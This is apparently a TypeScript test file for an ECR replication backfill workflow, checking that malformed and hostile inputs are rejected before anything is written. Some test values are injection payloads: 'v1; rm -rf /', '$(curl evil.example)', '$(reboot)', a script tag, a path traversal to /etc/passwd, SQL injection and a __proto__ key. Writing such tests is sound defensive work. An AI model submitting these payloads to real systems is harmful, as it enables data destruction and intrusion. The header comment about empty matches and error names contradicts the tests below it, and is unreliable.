/**
 * Bad input: a catalogue of malformed and hostile execution inputs. Each one is rejected by Plan with
 * `InvalidInput` and a message naming the problem (the field path appears in it), before anything is
 * written: zero ECR writes in the emulator's call log, zero objects in the run bucket.
 *
 * The catalogue runs through the Plan handler against the emulator (fast); a handful also through the
 * whole workflow in the local runner, where the execution must fail at Plan the same way.
 *
 * Decided here: patterns that match nothing are not invalid. A selection can legitimately be empty
 * (a tag that is not pushed yet, a repository prefix for a team with nothing yet); the run succeeds
 * with an empty plan and writes nothing to ECR. (A repository pattern matching only repositories no
 * replication rule covers is different: Plan fails with ReplicationNotConfigured and names them.)
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createPlanHandler } from '../../functions/plan/handler.ts';
import type { StepDeps } from '../../core/deps.ts';
import { ERROR_NAMES } from '../../core/errors/error-names.ts';
import { BENCH_SOURCE_ACCOUNT, BENCH_SOURCE_REGION } from '../../local/bench/registry-generator.ts';
import { startLocalS3, type LocalS3 } from '../../local/s3/index.ts';
import {
  allObjectKeys,
  runBuckets,
  runObserved,
  SMALL_SHAPE,
  startReliabilityWorld,
  startRunS3,
  type GeneratedWorld,
} from './support.ts';
import { writesIn } from '../support/ecr-writes.ts';
import { stepDeps } from '../support/world.ts';

const BUCKET = 'bad-input-runs';

interface BadInput {
  name: string;
  input: unknown;
  /** A path (or the word) the rejection message must contain. */
  names: string;
}

const distinctRegions = Array.from({ length: 26 }, (_, i) => `ap-test-${i + 1}`);
/** A JSON input of 256 KiB (Step Functions' payload limit), all of it one field. */
const huge = { repositories: [`team/${'a'.repeat(256 * 1024 - 40)}`] };
/**
 * An input Plan receives whole: the state machine hands Plan the execution input with its name, so an
 * input at the very limit makes Plan's state input exceed it (the next test).
 */
const nearLimit = { repositories: [`team/${'a'.repeat(200 * 1024)}`] };

const CATALOGUE: BadInput[] = [
  // The document itself
  { name: 'a string instead of an object', input: 'backfill everything', names: 'input' },
  { name: 'an array instead of an object', input: [{ destinations: ['ap-northeast-2'] }], names: 'input' },
  { name: 'a number', input: 42, names: 'input' },
  { name: 'wrong nesting: the input wrapped in "input"', input: { input: { dryRun: true } }, names: 'input' },
  {
    name: 'wrong nesting: the run config shape',
    input: { config: { strategy: 'promote' } },
    names: 'config',
  },
  { name: 'a typo in a key', input: { destination: ['ap-northeast-2'] }, names: 'destination' },
  {
    name: 'a prototype-pollution key',
    input: JSON.parse('{"__proto__": {"dryRun": false}}') as unknown,
    names: '__proto__',
  },
  { name: 'a 256 KiB input', input: huge, names: 'repositories[0]' },
  // destinations
  { name: 'destinations as a string', input: { destinations: 'ap-northeast-2' }, names: 'destinations' },
  { name: 'destinations: null', input: { destinations: null }, names: 'destinations' },
  { name: 'a destination that is a number', input: { destinations: [42] }, names: 'destinations[0]' },
  {
    name: 'a destination that is not a Region code',
    input: { destinations: ['mars-north-1'] },
    names: 'destinations[0]',
  },
  {
    name: 'a Region the replication configuration does not list',
    input: { destinations: ['sa-east-1'] },
    names: 'destinations[0]',
  },
  {
    name: 'an account the replication configuration does not list',
    input: { destinations: [{ region: 'ap-northeast-2', registryId: '999999999999' }] },
    names: 'destinations[0]',
  },
  {
    name: 'a malformed account id',
    input: { destinations: [{ region: 'ap-northeast-2', registryId: '12345' }] },
    names: 'destinations[0].registryId',
  },
  {
    name: 'a malformed role ARN',
    input: { destinations: [{ region: 'eu-west-1', roleArn: 'arn:aws:iam::12:role/x' }] },
    names: 'destinations[0].roleArn',
  },
  {
    name: 'an unknown key in a destination',
    input: { destinations: [{ region: 'ap-northeast-2', acount: '111111111111' }] },
    names: 'destinations[0].acount',
  },
  {
    name: 'a destination object without a Region',
    input: { destinations: [{ registryId: '111111111111' }] },
    names: 'destinations[0].region',
  },
  {
    name: 'the same destination twice',
    input: { destinations: ['ap-northeast-2', 'ap-northeast-2'] },
    names: 'destinations[1]',
  },
  { name: 'an enormous destination list', input: { destinations: distinctRegions }, names: 'destinations' },
  {
    name: 'the source Region as a destination',
    input: { destinations: ['ap-south-1'] },
    names: 'destinations[0]',
  },
  // repositories, tags
  { name: 'repositories as a string', input: { repositories: 'app/' }, names: 'repositories' },
  { name: 'an empty repository pattern', input: { repositories: [''] }, names: 'repositories[0]' },
  {
    name: 'an uppercase repository pattern',
    input: { repositories: ['App/Service'] },
    names: 'repositories[0]',
  },
  {
    name: 'an SQL-injection-looking repository pattern',
    input: { repositories: ["app/'; DROP TABLE images;--"] },
    names: 'repositories[0]',
  },
  {
    name: 'an enormous repository list',
    input: { repositories: Array.from({ length: 5000 }, (_, i) => `team-${i}/`) },
    names: 'repositories',
  },
  { name: 'a shell-injection-looking tag', input: { tags: ['v1; rm -rf /'] }, names: 'tags[0]' },
  { name: 'a command-substitution tag', input: { tags: ['$(curl evil.example)'] }, names: 'tags[0]' },
  {
    name: 'a script tag as an exclusion',
    input: { excludeTags: ['<script>alert(1)</script>'] },
    names: 'excludeTags[0]',
  },
  { name: 'a path-traversal tag', input: { tags: ['../../etc/passwd'] }, names: 'tags[0]' },
  // dates and numbers
  { name: 'pushedAfter in words', input: { pushedAfter: 'yesterday' }, names: 'pushedAfter' },
  {
    name: 'pushedAfter on a day that does not exist',
    input: { pushedAfter: '2024-02-30' },
    names: 'pushedAfter',
  },
  { name: 'latestPerRepository 0', input: { latestPerRepository: 0 }, names: 'latestPerRepository' },
  { name: 'latestPerRepository 1.5', input: { latestPerRepository: 1.5 }, names: 'latestPerRepository' },
  { name: 'maxConcurrency 0', input: { maxConcurrency: 0 }, names: 'maxConcurrency' },
  {
    name: 'maxConcurrency over the Distributed Map maximum',
    input: { maxConcurrency: 10_001 },
    names: 'maxConcurrency',
  },
  { name: 'batchSize 500', input: { batchSize: 500 }, names: 'batchSize' },
  { name: 'batchSize -1', input: { batchSize: -1 }, names: 'batchSize' },
  { name: 'batchSize as a string', input: { batchSize: '20' }, names: 'batchSize' },
  {
    name: 'toleratedFailurePercentage 101',
    input: { toleratedFailurePercentage: 101 },
    names: 'toleratedFailurePercentage',
  },
  {
    name: 'replicationTimeoutMinutes 0',
    input: { replicationTimeoutMinutes: 0 },
    names: 'replicationTimeoutMinutes',
  },
  {
    name: 'a replication wait as long as the timeout',
    input: { replicationWaitSeconds: 1800, replicationTimeoutMinutes: 30 },
    names: 'replicationWaitSeconds',
  },
  { name: 'planSliceSize 0', input: { planSliceSize: 0 }, names: 'planSliceSize' },
  // enums and booleans
  { name: 'an unknown strategy', input: { strategy: 'yolo' }, names: 'strategy' },
  { name: 'an unknown method', input: { method: 'rsync' }, names: 'method' },
  { name: 'dryRun as a number', input: { dryRun: 1 }, names: 'dryRun' },
  { name: 'includeUntagged as a string', input: { includeUntagged: 'yes' }, names: 'includeUntagged' },
  {
    name: 'overwriteConflicts as a string',
    input: { overwriteConflicts: 'true' },
    names: 'overwriteConflicts',
  },
  // temp tag prefixes that could collide with real tags
  {
    name: 'a temp tag prefix shaped like a version',
    input: { tempTagPrefix: 'v1.2-' },
    names: 'tempTagPrefix',
  },
  { name: 'a temp tag prefix that is `latest`', input: { tempTagPrefix: 'latest-' }, names: 'tempTagPrefix' },
  {
    name: 'a temp tag prefix shaped like a digest tag',
    input: { tempTagPrefix: 'sha256-' },
    names: 'tempTagPrefix',
  },
  {
    name: 'a temp tag prefix starting with a digit',
    input: { tempTagPrefix: '2024-tmp-' },
    names: 'tempTagPrefix',
  },
  {
    name: 'a temp tag prefix too short to be distinctive',
    input: { tempTagPrefix: 'tmp' },
    names: 'tempTagPrefix',
  },
  {
    name: 'a temp tag prefix with a slash',
    input: { tempTagPrefix: 'tmp/backfill-' },
    names: 'tempTagPrefix',
  },
  {
    name: 'a temp tag prefix leaving no room for the digest',
    input: { tempTagPrefix: `bkfl-${'x'.repeat(100)}` },
    names: 'tempTagPrefix',
  },
];

/** Plan's deps on the world, its run bucket in `s3`. */
const planDeps = (world: GeneratedWorld, s3: LocalS3): StepDeps =>
  stepDeps(world, s3.client, { maxAttempts: 1, runBucket: BUCKET });

describe('malformed and hostile execution inputs', () => {
  let world: GeneratedWorld;
  let s3: LocalS3;
  let runS3: LocalS3;
  beforeAll(async () => {
    world = await startReliabilityWorld({ seed: 31, ...SMALL_SHAPE }, { replicationLatencyMs: 10 });
    s3 = await startLocalS3({ buckets: [BUCKET], region: BENCH_SOURCE_REGION });
    runS3 = await startRunS3(BENCH_SOURCE_REGION, BENCH_SOURCE_ACCOUNT);
  });
  afterAll(async () => {
    await world.close();
    await s3.close();
    await runS3.close();
  });

  it('holds at least 30 distinct cases', () => {
    expect(CATALOGUE.length).toBeGreaterThanOrEqual(30);
    expect(new Set(CATALOGUE.map((c) => c.name)).size).toBe(CATALOGUE.length);
  });

  it.each(CATALOGUE)('Plan rejects $name, naming $names, writing nothing', async ({ input, names }) => {
    // Prepare
    const plan = createPlanHandler(planDeps(world, s3));
    const firstCall = world.emulator.callLog.size;

    // Act
    const error = await plan({ input, executionName: 'bad-input' }).then(
      () => undefined,
      (e: unknown) => e as Error,
    );

    // Assess
    expect(error?.name).toBe(ERROR_NAMES.InvalidInput);
    expect(error?.message).toContain(names);
    expect(error?.message.length).toBeLessThan(8 * 1024);
    expect(writesIn(world.emulator.callLog.entries().slice(firstCall))).toEqual([]);
    expect(await allObjectKeys(s3, [BUCKET])).toEqual([]);
  });

  it.each([
    { name: 'a typo in a key', input: { batchsize: 10 }, names: 'batchsize' },
    {
      name: 'a destination the replication configuration does not list',
      input: { destinations: ['sa-east-1'] },
      names: 'destinations[0]',
    },
    { name: 'a hostile tag pattern', input: { tags: ['$(reboot)'] }, names: 'tags[0]' },
    { name: 'a 200 KiB input', input: nearLimit, names: 'repositories[0]' },
    { name: 'a colliding temp tag prefix', input: { tempTagPrefix: 'latest-' }, names: 'tempTagPrefix' },
  ])(
    'the workflow fails at Plan on $name, naming $names, with no ECR write and no S3 object',
    async ({ input, names }) => {
      // Prepare
      const buckets = runBuckets(world.source.region, world.source.account);
      const objectsBefore = await allObjectKeys(runS3, buckets);

      // Act
      const run = await runObserved(world, { s3: runS3, input });

      // Assess
      expect(run.result.status).toBe('FAILED');
      expect(run.result.error).toBe(ERROR_NAMES.InvalidInput);
      expect(run.result.execution.failedState?.name).toBe('Plan');
      expect(run.result.cause).toContain(names);
      expect(writesIn(run.calls)).toEqual([]);
      expect(await allObjectKeys(runS3, buckets)).toEqual(objectsBefore);
    },
  );

  it('an input at the 256 KiB limit fails before Plan with States.DataLimitExceeded, as Step Functions does, with nothing written', async () => {
    // Prepare: Step Functions accepts an execution input of 256 KiB, and holds every state's input to
    // the same limit; Plan's input is the execution input plus the execution's name.
    // https://docs.aws.amazon.com/step-functions/latest/dg/service-quotas.html
    const buckets = runBuckets(world.source.region, world.source.account);
    const objectsBefore = await allObjectKeys(runS3, buckets);

    // Act
    const run = await runObserved(world, { s3: runS3, input: huge });

    // Assess
    expect(run.result.status).toBe('FAILED');
    expect(run.result.error).toBe('States.DataLimitExceeded');
    expect(writesIn(run.calls)).toEqual([]);
    expect(await allObjectKeys(runS3, buckets)).toEqual(objectsBefore);
  });

  it.each([
    {
      name: 'a repository prefix no repository has',
      input: { repositories: ['no-such-team/'] },
      filter: 'repositories',
    },
    { name: 'a tag no image has', input: { tags: ['v99.99.99'] }, filter: 'tags' },
  ])(
    'a name filter that matches nothing ($name) fails as NothingMatched, naming the filter, nothing written to ECR',
    async ({ input, filter }) => {
      // Act
      const run = await runObserved(world, { s3: runS3, input });

      // Assess
      expect(run.result.status).toBe('FAILED');
      expect(run.result.error).toBe(ERROR_NAMES.NothingMatched);
      expect(run.result.cause).toContain(`${filter}: `);
      expect(run.result.cause).toContain('Nearby: ');
      expect(run.result.report?.summary.counts.ALREADY_PRESENT ?? 0).toBe(0);
      expect(writesIn(run.calls)).toEqual([]);
    },
  );

  it('a pushedAfter date in the future is not an error: an empty plan, nothing written to ECR', async () => {
    // Act
    const run = await runObserved(world, { s3: runS3, input: { pushedAfter: '2999-01-01' } });

    // Assess
    expect(run.result.status).toBe('SUCCEEDED');
    expect(run.result.report?.summary.counts.BACKFILLED ?? 0).toBe(0);
    expect(run.result.report?.rows ?? []).toEqual([]);
    expect(writesIn(run.calls)).toEqual([]);
  });

  it('a repository pattern matching only repositories no rule covers fails as ReplicationNotConfigured, naming them', async () => {
    // Prepare
    const uncovered = world.registry.repositories.filter((r) => r.coveredBy.length === 0).map((r) => r.name);
    expect(uncovered.length).toBeGreaterThan(0);

    // Act
    const run = await runObserved(world, { s3: runS3, input: { repositories: ['internal/'] } });

    // Assess
    expect(run.result.status).toBe('FAILED');
    expect(run.result.error).toBe(ERROR_NAMES.NotCovered);
    expect(run.result.cause).toContain(uncovered[0]);
    expect(writesIn(run.calls)).toEqual([]);
  });
});
